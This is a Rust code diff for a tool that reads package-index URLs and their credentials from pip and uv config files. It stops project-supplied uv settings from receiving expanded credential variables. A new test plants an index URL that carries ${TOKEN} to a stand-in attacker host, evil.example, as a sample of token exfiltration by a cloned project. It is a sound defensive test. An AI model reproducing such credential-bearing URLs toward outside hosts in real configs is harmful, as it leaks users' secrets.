@@ -28,16 +28,21 @@ const VARIABLES: [&str; 8] = [
 
 #[derive(Debug, Default)]
 pub(super) struct Indexes {
-    /// As they are written, credentials included.
     urls: Vec<SecretUrl>,
 }
 
 /// An address that may have credentials in it; not to be printed.
-struct SecretUrl(String);
+struct SecretUrl {
+    /// With the variables that it names.
+    whole: String,
+    /// As an installer may get it. Of a file that comes with a checkout that is what is written there, so that what its
+    /// variables may be sent to is decided as for every other line of the checkout.
+    given: String,
+}
 
 impl std::fmt::Debug for SecretUrl {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        f.write_str(&identity(&self.0))
+        f.write_str(&identity(&self.whole))
     }
 }
 
@@ -53,31 +58,35 @@ impl Indexes {
             let lines = text.lines().map(str::trim).filter(|line| !line.starts_with(['#', ';']));
             urls.extend(lines.flat_map(words_with_address));
         }
-        for (file, inside) in uv_files(env, dir) {
-            let text = std::fs::read_to_string(file).unwrap_or_default();
-            let Ok(document) = toml::from_str::<Table>(&text) else { continue };
-            let settings = inside.iter().try_fold(&document, |table, name| table.get(*name)?.as_table());
-            urls.extend(settings.into_iter().flat_map(|settings| uv_urls(settings, env)));
+        for file in own_uv_files(env) {
+            urls.extend(uv_settings(&file, &[]).iter().flat_map(|settings| uv_urls(settings, env)));
         }
-        Self { urls: urls.into_iter().map(|url| SecretUrl(expand(&url, env))).collect() }
+        let own = urls.into_iter().map(|url| expand(&url, env)).map(|url| SecretUrl { whole: url.clone(), given: url });
+        let project = dir.ancestors().flat_map(|dir| {
+            let files = [(dir.join("uv.toml"), &[][..]), (dir.join("pyproject.toml"), &["tool", "uv"][..])];
+            files.into_iter().filter_map(|(file, inside)| uv_settings(&file, inside))
+        });
+        let of_project = project.flat_map(|settings| uv_urls(&settings, env));
+        let of_project = of_project.map(|url| SecretUrl { whole: expand(&url, env), given: url });
+        Self { urls: own.chain(of_project).collect() }
     }
 
     pub(super) fn secrets(&self) -> Vec<SecretString> {
-        self.urls.iter().flat_map(|url| in_urls(&url.0)).collect()
+        self.urls.iter().flat_map(|url| in_urls(&url.whole)).collect()
     }
 
     /// For the cache key: another index may have other packages; another token for the same index has not.
     pub(super) fn identities(&self) -> BTreeSet<String> {
-        self.urls.iter().map(|url| identity(&without_user(&url.0).0)).collect()
+        self.urls.iter().map(|url| identity(&without_user(&url.whole).0)).collect()
     }
 
-    /// `url` as the user has set it up, with the credentials that belong to it.
+    /// `url` as it is set up, with the credentials that belong to it. The user's own settings come first.
     pub(super) fn with_credentials(&self, url: &str) -> String {
         let same = |known: &&SecretUrl| {
-            let (place, user) = without_user(&known.0);
+            let (place, user) = without_user(&known.whole);
             user.is_some() && place.trim_end_matches('/') == url.trim_end_matches('/')
         };
-        self.urls.iter().find(same).map_or_else(|| url.to_owned(), |known| known.0.clone())
+        self.urls.iter().find(same).map_or_else(|| url.to_owned(), |known| known.given.clone())
     }
 }
 
@@ -109,18 +118,23 @@ fn pip_files(env: &Env) -> Vec<PathBuf> {
     files.into_iter().flatten().collect()
 }
 
-/// uv's files, and the tables in them that hold its settings.
-fn uv_files(env: &Env, dir: &Path) -> Vec<(PathBuf, &'static [&'static str])> {
+/// Where uv looks outside of a project.
+fn own_uv_files(env: &Env) -> Vec<PathBuf> {
     let home = env.home().map(|home| home.join(".config"));
     let config = env.var("XDG_CONFIG_HOME").map(PathBuf::from).or(home);
-    let mut files: Vec<(PathBuf, &'static [&'static str])> = vec![(PathBuf::from("/etc/uv/uv.toml"), &[])];
-    files.extend(config.map(|dir| (dir.join("uv/uv.toml"), &[][..])));
-    files.extend(env.var("UV_CONFIG_FILE").map(|file| (PathBuf::from(file), &[][..])));
-    for dir in dir.ancestors() {
-        files.push((dir.join("uv.toml"), &[]));
-        files.push((dir.join("pyproject.toml"), &["tool", "uv"]));
-    }
-    files
+    let files = [
+        Some(PathBuf::from("/etc/uv/uv.toml")),
+        config.map(|dir| dir.join("uv/uv.toml")),
+        env.var("UV_CONFIG_FILE").map(PathBuf::from),
+    ];
+    files.into_iter().flatten().collect()
+}
+
+/// The table of a file that holds uv's settings.
+fn uv_settings(file: &Path, inside: &[&str]) -> Option<Table> {
+    let text = std::fs::read_to_string(file).ok()?;
+    let document = toml::from_str::<Table>(&text).ok()?;
+    inside.iter().try_fold(&document, |table, name| table.get(*name)?.as_table()).cloned()
 }
 
 /// The addresses of `[[index]]` with the credentials that variables give for their names, and of the older settings.
@@ -196,5 +210,25 @@ mod tests {
         assert!(!crate::redact::scrub(line, &indexes.secrets()).contains("canary"));
         assert_eq!(indexes.with_credentials("https://four/simple/"), "https://aws:canary%2F4@four/simple");
         assert_eq!(indexes.with_credentials("https://six/s"), "https://six/s");
+    }
+
+    #[test]
+    fn a_projects_address_is_given_as_written() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join("p");
+        std::fs::create_dir_all(dir.path().join(".config/uv")).unwrap();
+        std::fs::create_dir(&project).unwrap();
+        let own = "index-url='https://${TOKEN}@own.example/simple'";
+        std::fs::write(dir.path().join(".config/uv/uv.toml"), own).unwrap();
+        let text = "[[tool.uv.index]]\nurl='https://${TOKEN}@evil.example/simple'\n";
+        std::fs::write(project.join("pyproject.toml"), text).unwrap();
+        std::fs::write(project.join("uv.toml"), "extra-index-url='https://${TOKEN}@other.example/s'").unwrap();
+        let vars = [("HOME", dir.path().to_str().unwrap()), ("TOKEN", "canary")];
+        let indexes = Indexes::read(&Env::fake(&project, &vars), &project);
+        let with = |url: &str| indexes.with_credentials(url);
+        assert_eq!(with("https://evil.example/simple"), "https://${TOKEN}@evil.example/simple");
+        assert_eq!(with("https://other.example/s"), "https://${TOKEN}@other.example/s");
+        assert_eq!(with("https://own.example/simple"), "https://canary@own.example/simple");
+        assert_eq!(crate::redact::scrub("canary", &indexes.secrets()), "[redacted]");
     }
 }
